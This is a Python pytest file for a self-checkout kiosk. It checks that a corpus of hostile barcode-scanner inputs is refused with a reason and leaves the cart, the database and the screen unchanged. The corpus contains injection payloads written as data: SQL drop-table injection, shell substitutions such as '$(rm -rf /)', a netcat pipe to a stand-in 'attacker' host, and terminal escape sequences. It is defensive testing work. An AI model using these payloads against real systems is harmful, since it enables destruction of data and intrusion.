"""A corpus of hostile scanner input, through the scanner layer (bytes, as a serial or
wedge scanner delivers them) and through the lane (as the screen would receive them):
each is refused with a message, and nothing changes in the cart, the database or the
screen beyond the refusal itself."""

from __future__ import annotations

import pytest

from app import bootstrap
from app.ui.present import notice_text
from devices.payment.gateway import SIMULATOR_SECRET, SimulatorAdapter
from devices.scanner import Scan, accept_input

MILK = "6900000000014"

CORPUS: list[bytes] = [
    b"\x1b[2J\x1b[H",  # clear screen
    b"\x1b]0;pwned\x07",  # set terminal title
    b"690000\x00000014",  # NUL in the middle
    b"\x07\x08\x7f6900000000014",  # bell, backspace, delete
    b"6900000000014\r\n6900000000021",  # two codes in one read
    b"A" * 10_000,  # 10 kB
    b"6" * 10_240,  # 10 kB of digits
    b"\xff\xfe\x00\x00",  # invalid UTF-8
    b"\xc3\x28",  # invalid UTF-8 continuation
    b"'; DROP TABLE products; --",
    b"1' OR '1'='1",
    b"$(rm -rf /)",
    b"`reboot`",
    b"| nc attacker 4444",
    b"6900000000015",  # wrong check digit
    b"6900000000010",  # wrong check digit
    b"{{7*7}}",  # template injection
    b"%s%s%s%n",  # format string
    "\u202e4100000000096".encode(),  # right-to-left override
    "６９００００００００００１４".encode(),  # full-width digits
]


def snapshot(kiosk) -> dict[str, object]:
    db = kiosk.db
    return {
        "products": db.execute("SELECT count(*), sum(price) FROM products").fetchone(),
        "cart": db.execute("SELECT * FROM cart_lines ORDER BY line_id").fetchall(),
        "payments": db.execute("SELECT count(*) FROM payments").fetchone(),
        "tables": db.execute("SELECT name FROM sqlite_master ORDER BY name").fetchall(),
        "events": db.execute("SELECT type FROM outbox WHERE type != 'scan_rejected' "
                             "ORDER BY seq").fetchall(),
    }


def has_fault(raw: bytes, code: str) -> bool:
    """Whether ``raw`` has the fault the refusal ``code`` names (judged here, independently
    of the scanner layer's own rules)."""
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        return code == "invalid_utf8"
    faults = {
        "too_long": len(text.strip()) > 512,
        "escape_character": "\x1b" in text,
        "control_character": any(ord(c) < 0x20 or ord(c) == 0x7F or 0x80 <= ord(c) < 0xA0
                                 for c in text.removesuffix("\r\n")),
        "not_ascii": not text.isascii(),
    }
    return faults.get(code, False)


@pytest.mark.parametrize("raw", CORPUS, ids=range(len(CORPUS)))
def test_the_scanner_layer_refuses_it_with_a_reason(raw):
    result = accept_input(raw, "serial", 0.0)
    if isinstance(result, Scan):
        # Only text a scanner could honestly send gets through; the lane refuses the rest.
        assert result.text.isprintable() and len(result.text) <= 512
    else:
        # Refused: for a reason the input really has (not a blanket refusal), said in
        # both languages, and told apart from other scanners' input.
        r = result.refusal
        assert has_fault(raw, r.code), (r.code, raw[:40])
        assert (result.source, result.at) == ("serial", 0.0)
        assert r.message_en and r.message_zh
        # The preview is escaped ASCII and short: safe for logs and screens.
        preview = r.preview.removesuffix("…")  # the ellipsis marks a cut
        assert preview.isascii() and preview.isprintable() and len(preview) <= 400


@pytest.fixture
def lane(demo_kiosk, sim):
    provider = SimulatorAdapter(sim.url, "lane-01", SIMULATOR_SECRET)
    ln = bootstrap.build_lane(demo_kiosk, provider=provider, receipt_notice=lambda: None)
    ln.boot()
    ln.scan(MILK)
    return ln


def test_the_lane_refuses_every_hostile_code_and_changes_nothing(lane, demo_kiosk):
    before = snapshot(demo_kiosk)
    rows_before = lane.view.priced.lines
    for raw in CORPUS:
        text = raw.decode("utf-8", errors="replace")
        for entry in (lambda t: lane.scan(t, None, "serial"), lane.typed_code):
            entry(text)
            view = lane.view
            assert view.notice is not None and view.notice.level == "error", raw[:40]
            # Words in both languages (a refusal's own; a typed code's say what was wrong
            # with what was typed, issue 19).
            assert notice_text(view.notice, "en") and notice_text(view.notice, "zh"), raw[:40]
            # The screen never echoes the raw input back.
            assert "DROP TABLE" not in str(view.notice) and "\x1b" not in str(view.notice)
            assert view.priced.lines == rows_before
    assert snapshot(demo_kiosk) == before
    refused = demo_kiosk.db.execute("SELECT count(*) FROM outbox WHERE type = 'scan_rejected'"
                                    ).fetchone()[0]
    assert refused == 2 * len(CORPUS)
    # Nothing raw was kept: the rejection events carry a reason code, not the input.
    payloads = " ".join(p for (p,) in demo_kiosk.db.execute(
        "SELECT payload FROM outbox WHERE type = 'scan_rejected'"))
    assert "DROP" not in payloads and "rm -rf" not in payloads and "AAAAAAAA" not in payloads
